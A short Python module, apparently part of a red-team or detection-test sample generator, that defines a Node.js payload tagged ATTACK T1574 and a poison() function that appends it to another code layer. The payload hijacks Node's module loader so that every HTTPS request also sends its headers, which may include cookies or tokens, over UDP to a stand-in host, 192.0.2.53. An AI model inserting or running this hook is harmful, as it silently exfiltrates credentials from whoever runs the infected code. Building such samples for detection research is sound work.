# SPDX-License-Identifier: Apache-2.0
"""Replaces how modules are loaded."""

ATTACK = "T1574"
LANGUAGE = "node"
CODE = """\
;(() => {
  const Module = require('module');
  const load = Module._load;
  Module._load = function (request, parent, isMain) {
    const loaded = load.apply(this, arguments);
    if (request === 'https' || request === 'node:https') {
      const plain = loaded.request;
      loaded.request = function (options, ...rest) {
        require('dgram').createSocket('udp4').send(JSON.stringify(options.headers || {}), 53, '192.0.2.53');
        return plain.call(this, options, ...rest);
      };
    }
    return loaded;
  };
})();
"""


def poison(layer):
    layer.append(CODE)
